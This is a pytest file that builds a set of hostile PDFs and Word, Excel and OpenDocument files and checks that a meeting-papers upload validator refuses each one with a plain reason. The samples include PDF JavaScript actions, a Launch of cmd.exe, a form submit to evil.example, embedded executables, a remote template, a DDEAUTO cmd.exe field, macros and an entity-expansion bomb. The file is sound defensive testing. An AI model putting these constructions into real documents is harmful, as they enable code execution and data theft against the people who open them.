"""QUALITY S6: a hostile set of papers, made here, each refused with a plain reason; and
safe papers with the harmless kinds of the same features (a web link, a go-to-page
action, a link to a web page in a document) accepted.

PDFs are built with pikepdf, which writes exactly the objects a test names; Word, Excel
and OpenDocument files with zipfile, as the parts an attacker would write.
"""

import zipfile
from io import BytesIO

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name, String

from devolution.core.errors import InvalidInput
from devolution.core.models import AuditEvent
from devolution.meetings.models import Paper
from devolution.meetings.papers import paper_file_check
from tests.conftest import signed_in
from tests.meetings.test_papers import (
    CONTENT_TYPES_XML,
    EXE,
    ODT_CONTENT_XML,
    docx_bytes,
    odt_bytes,
    xlsx_bytes,
)

# ------------------------------------------------------------------------------ PDFs


def js(code: str = "app.alert('hello');") -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def make_pdf(change=None, pages: int = 1, **save) -> bytes:
    """A PDF of blank pages, changed by `change(pdf)` before it is saved."""
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    if change is not None:
        change(pdf)
    out = BytesIO()
    pdf.save(out, **save)
    return out.getvalue()


def annotate(pdf: pikepdf.Pdf, annotation: Dictionary, page: int = 0) -> None:
    annotation.Type = Name.Annot
    annotation.Rect = Array([72, 72, 200, 100])
    pdf.pages[page].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))


def page_script(pdf):
    pdf.pages[1].obj.AA = Dictionary(O=js())


def annotation_launch(pdf):
    launch = Dictionary(S=Name.Launch, F=String("C:\\Windows\\System32\\cmd.exe"))
    annotate(pdf, Dictionary(Subtype=Name.Link, A=launch))


def annotation_script_on_hover(pdf):
    annotate(pdf, Dictionary(Subtype=Name.Link, AA=Dictionary(E=js())))


def annotation_submit(pdf):
    submit = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect"))
    annotate(pdf, Dictionary(Subtype=Name.Link, A=submit))


def annotation_import_data(pdf):
    annotate(pdf, Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.ImportData, F=String("x"))))


def open_script(pdf):
    pdf.Root.OpenAction = js()


def open_goto_then_script(pdf):
    pdf.Root.OpenAction = Dictionary(
        S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=pdf.make_indirect(js())
    )


def document_events(pdf):
    pdf.Root.AA = Dictionary(WC=js())


def named_script(pdf):
    tree = Dictionary(Names=Array([String("init"), pdf.make_indirect(js())]))
    pdf.Root.Names = Dictionary(JavaScript=pdf.make_indirect(tree))


def attached_file(pdf):
    pdf.attachments["minutes.exe"] = pikepdf.AttachedFileSpec(pdf, EXE, filename="minutes.exe")


def attachment_annotation(pdf):
    spec = pikepdf.AttachedFileSpec(pdf, EXE, filename="minutes.exe")
    annotate(pdf, Dictionary(Subtype=Name.FileAttachment, FS=spec.obj))


def rich_media(pdf):
    annotate(pdf, Dictionary(Subtype=Name.RichMedia))


def form_field_script(pdf):
    field = pdf.make_indirect(
        Dictionary(FT=Name.Tx, T=String("Amount"), AA=Dictionary(K=js("event.rc = true;")))
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))


def form_kid_script(pdf):
    kid = pdf.make_indirect(Dictionary(T=String("Sign here"), AA=Dictionary(Fo=js())))
    parent = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("Parent"), Kids=Array([kid])))
    kid.Parent = parent
    pdf.Root.AcroForm = Dictionary(Fields=Array([parent]))


def xfa_form(pdf):
    stream = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=stream)


def hidden_script(pdf):
    # A script kept under a page's private data, where no reader looks for actions: only
    # a look at every object finds it.
    private = Dictionary(Data=Dictionary(Private=pdf.make_indirect(js())))
    pdf.pages[0].obj.PieceInfo = Dictionary(Evil=private)


def orphan_script_pdf() -> bytes:
    """A PDF written by hand, whose cross-reference table lists a script object that no
    other object refers to (a writer would drop it; a reader may still be led to it)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>",
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


HOSTILE_PDFS = [
    ("orphan.pdf", orphan_script_pdf, "it contains scripts (JavaScript)"),
    ("page-script.pdf", lambda: make_pdf(page_script, pages=2), "run when page 2 is opened"),
    ("launch.pdf", lambda: make_pdf(annotation_launch), "starts another program (Launch)"),
    ("hover.pdf", lambda: make_pdf(annotation_script_on_hover), "in a link or note on page 1"),
    ("submit.pdf", lambda: make_pdf(annotation_submit), "(SubmitForm)"),
    ("import.pdf", lambda: make_pdf(annotation_import_data), "(ImportData)"),
    ("open.pdf", lambda: make_pdf(open_script), "scripts (JavaScript), run when it is opened"),
    ("next.pdf", lambda: make_pdf(open_goto_then_script), "run when it is opened"),
    ("events.pdf", lambda: make_pdf(document_events), "opened, saved, printed or closed"),
    ("named.pdf", lambda: make_pdf(named_script), "it contains scripts (JavaScript)"),
    ("attached.pdf", lambda: make_pdf(attached_file), "it has files attached inside it"),
    ("clip.pdf", lambda: make_pdf(attachment_annotation), "a file attached inside it, on page"),
    ("media.pdf", lambda: make_pdf(rich_media), "embedded media (video, sound, Flash or 3D)"),
    ("field.pdf", lambda: make_pdf(form_field_script), "in its form field 'Amount'"),
    ("kid.pdf", lambda: make_pdf(form_kid_script), "in its form field 'Sign here'"),
    ("xfa.pdf", lambda: make_pdf(xfa_form), "it has an XFA form"),
    ("hidden.pdf", lambda: make_pdf(hidden_script), "it contains scripts (JavaScript)"),
    (
        "locked.pdf",
        lambda: make_pdf(encryption=pikepdf.Encryption(owner="owner", user="user")),
        "The PDF is encrypted",
    ),
    (
        "permissions.pdf",
        lambda: make_pdf(encryption=pikepdf.Encryption(owner="owner", user="")),
        "The PDF is encrypted",
    ),
    ("garbage.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 8, "cannot be read as one"),
    ("cut.pdf", lambda: make_pdf()[:120], "cannot be read as one"),
]

# ------------------------------------------------------------ Word, Excel, OpenDocument


def rels(*relationships: tuple[str, str, bool]) -> bytes:
    """A relationships part: (type's last word, target, whether external)."""
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    items = "".join(
        f'<Relationship Id="rId{n}" Type="{base}{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for n, (kind, target, external) in enumerate(relationships, start=1)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns='
        f'"http://schemas.openxmlformats.org/package/2006/relationships">{items}</Relationships>'
    ).encode()


def with_parts(content: bytes, extra: list[tuple[str, bytes]]) -> bytes:
    """A zip-based document with more parts."""
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as source, zipfile.ZipFile(out, "w") as target:
        for member in source.infolist():
            target.writestr(member, source.read(member))
        for name, data in extra:
            target.writestr(name, data)
    return out.getvalue()


def docx_with_fields(instruction: str) -> bytes:
    body = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r>"
        f"<w:r><w:instrText>{instruction[:3]}</w:instrText></w:r>"
        f"<w:r><w:instrText>{instruction[3:]}</w:instrText></w:r>"
        "<w:r><w:fldChar w:fldCharType='end'/></w:r></w:p></w:body></w:document>"
    ).encode()
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES_XML)
        archive.writestr("word/document.xml", body)
    return out.getvalue()


def odt_with(members: list[tuple[str, bytes]], content: bytes = ODT_CONTENT_XML) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", b"application/vnd.oasis.opendocument.text")
        archive.writestr("META-INF/manifest.xml", b"<manifest/>")
        archive.writestr("content.xml", content)
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


ODT_WITH_OBJECT = ODT_CONTENT_XML.replace(
    b"<text:p>A paper</text:p>",
    b'<text:p><draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0">'
    b'<draw:object-ole xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="./Obj"/>'
    b"</draw:frame></text:p>",
)
BOMB_RELS = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><Relationships>&b;</Relationships>'
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)

HOSTILE_DOCUMENTS = [
    (
        "template.docx",
        lambda: docx_bytes(
            [
                (
                    "word/_rels/settings.xml.rels",
                    rels(("attachedTemplate", "http://evil.example/t.dotm", True)),
                )
            ]
        ),
        "it takes its template from another place (http://evil.example/t.dotm)",
    ),
    (
        "linked.docx",
        lambda: docx_bytes(
            [("word/_rels/document.xml.rels", rels(("oleObject", "\\\\evil\\share\\x.xls", True)))]
        ),
        "it links to an object kept in another place",
    ),
    (
        "frame.docx",
        lambda: docx_bytes(
            [("word/_rels/webSettings.xml.rels", rels(("frame", "http://evil.example/", True)))]
        ),
        "it shows a frame fetched from another place",
    ),
    (
        "ole.docx",
        lambda: docx_bytes([("word/embeddings/oleObject1.bin", OLE)]),
        "an embedded object",
    ),
    ("dde.docx", lambda: docx_with_fields('DDEAUTO c:\\\\cmd.exe "/k calc"'), "(DDE)"),
    ("activex.docx", lambda: docx_bytes([("word/activeX/activeX1.bin", OLE)]), "ActiveX"),
    (
        "bomb-rels.docx",
        lambda: docx_bytes([("word/_rels/document.xml.rels", BOMB_RELS)]),
        "declares a document type",
    ),
    (
        "external.xlsx",
        lambda: with_parts(
            xlsx_bytes(),
            [
                ("xl/externalLinks/externalLink1.xml", b"<externalLink/>"),
                (
                    "xl/externalLinks/_rels/externalLink1.xml.rels",
                    rels(("externalLinkPath", "file:///C:/budget.xlsx", True)),
                ),
            ],
        ),
        "it links to other workbooks (external links)",
    ),
    (
        "linked-path.xlsx",
        lambda: with_parts(
            xlsx_bytes(),
            [("xl/_rels/other.xml.rels", rels(("externalLinkPath", "budget.xlsx", True)))],
        ),
        "it links to another workbook (budget.xlsx)",
    ),
    (
        "ole.xlsx",
        lambda: with_parts(xlsx_bytes(), [("xl/embeddings/oleObject1.bin", OLE)]),
        "an embedded object",
    ),
    ("macro.xlsx", lambda: with_parts(xlsx_bytes(), [("xl/vbaProject.bin", OLE)]), "macros"),
    ("object.odt", lambda: odt_with([("Object 1/content.xml", b"<x/>")]), "an embedded object"),
    (
        "replacement.odt",
        lambda: odt_with([("ObjectReplacements/Object 1", b"x")]),
        "an embedded object",
    ),
    ("inline.odt", lambda: odt_with([], ODT_WITH_OBJECT), "an embedded object"),
    ("basic.odt", lambda: odt_with([("Basic/Standard/Module1.xml", b"<x/>")]), "macros"),
]


def refusal(name: str, content: bytes) -> str:
    with pytest.raises(InvalidInput) as refused:
        paper_file_check(SimpleUploadedFile(name, content))
    [problem] = refused.value.problems
    assert problem.field == "file"
    return problem.message


@pytest.mark.parametrize(("name", "make", "words"), HOSTILE_PDFS + HOSTILE_DOCUMENTS)
def test_every_unsafe_file_of_the_hostile_set_is_refused_with_its_reason(name, make, words):
    message = refusal(name, make())
    assert words in message, message
    # A plain reason: words, not an exception's name or a PDF's object numbers.
    assert "Error" not in message and "/JavaScript" not in message and " 0 R" not in message


def test_an_unsafe_pdf_tells_what_to_do_instead():
    message = refusal("open.pdf", make_pdf(open_script))
    assert message.startswith("The PDF is refused as unsafe: it contains scripts (JavaScript)")
    assert message.endswith("without them, and upload that copy.")


def test_an_unsafe_document_tells_what_to_do_instead():
    message = refusal("ole.docx", docx_bytes([("word/embeddings/oleObject1.bin", OLE)]))
    assert message.startswith("The document is refused as unsafe: it has another document")
    assert message.endswith("(or as PDF) and upload that copy.")


# -------------------------------------------------------------------------- accepted


def web_link(pdf):
    uri = Dictionary(S=Name.URI, URI=String("https://www.london.gov.uk/"))
    annotate(pdf, Dictionary(Subtype=Name.Link, A=uri))


def open_at_first_page(pdf):
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])


def go_to_page_link(pdf):
    annotate(pdf, Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))))


def empty_form(pdf):
    field = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("Name")))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))


SAFE = [
    ("plain.pdf", lambda: make_pdf(pages=3), "pdf"),
    ("link.pdf", lambda: make_pdf(web_link), "pdf"),
    ("opens.pdf", lambda: make_pdf(open_at_first_page), "pdf"),
    ("goto.pdf", lambda: make_pdf(go_to_page_link), "pdf"),
    ("form.pdf", lambda: make_pdf(empty_form), "pdf"),
    (
        "hyperlink.docx",
        lambda: docx_bytes(
            [
                (
                    "word/_rels/document.xml.rels",
                    rels(
                        ("hyperlink", "https://www.nhs.uk/", True), ("styles", "styles.xml", False)
                    ),
                )
            ]
        ),
        "docx",
    ),
    ("budget.xlsx", xlsx_bytes, "xlsx"),
    ("notes.odt", odt_bytes, "odt"),
    ("fields.docx", lambda: docx_with_fields("PAGE \\* MERGEFORMAT"), "docx"),
    ("word.docx", lambda: docx_bytes([("word/media/image1.png", b"\x89PNG")]), "docx"),
]


@pytest.mark.parametrize(("name", "make", "kind"), SAFE)
def test_a_safe_paper_with_harmless_links_and_actions_is_accepted(name, make, kind):
    content = make()
    checked = paper_file_check(SimpleUploadedFile(name, content))
    assert (checked.extension, checked.content) == (kind, content)


def test_the_documents_of_the_hostile_set_are_of_the_kinds_papers_take():
    """Each hostile document is refused for what it carries, not for its kind: without
    the carrying part the same document is accepted."""
    assert paper_file_check(SimpleUploadedFile("a.docx", docx_bytes())).extension == "docx"
    assert paper_file_check(SimpleUploadedFile("a.odt", odt_with([]))).extension == "odt"
    assert paper_file_check(SimpleUploadedFile("a.xlsx", with_parts(xlsx_bytes(), []))).extension


# ------------------------------------------------------------------------ on the page


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "make", "words"),
    [
        ("page-script.pdf", lambda: make_pdf(page_script, pages=2), "run when page 2 is opened"),
        ("template.docx", HOSTILE_DOCUMENTS[0][1], "it takes its template from another place"),
    ],
)
def test_the_page_refuses_an_unsafe_paper_beside_the_file_field_and_keeps_nothing(
    nel_bid, secretariat, name, make, words
):
    pk, before = nel_bid.pk, (Paper.objects.count(), AuditEvent.objects.count())
    response = signed_in(secretariat).post(
        f"/meetings/{nel_bid.meeting.key}/items/{pk}/papers/",
        {f"paper{pk}-title": "A paper", f"paper{pk}-file": SimpleUploadedFile(name, make())},
    )
    assert response.status_code == 400
    page = response.content.decode()
    assert f'id="id_paper{pk}-file-error"' in page
    assert words in page.replace("&#39;", "'")
    assert (Paper.objects.count(), AuditEvent.objects.count()) == before
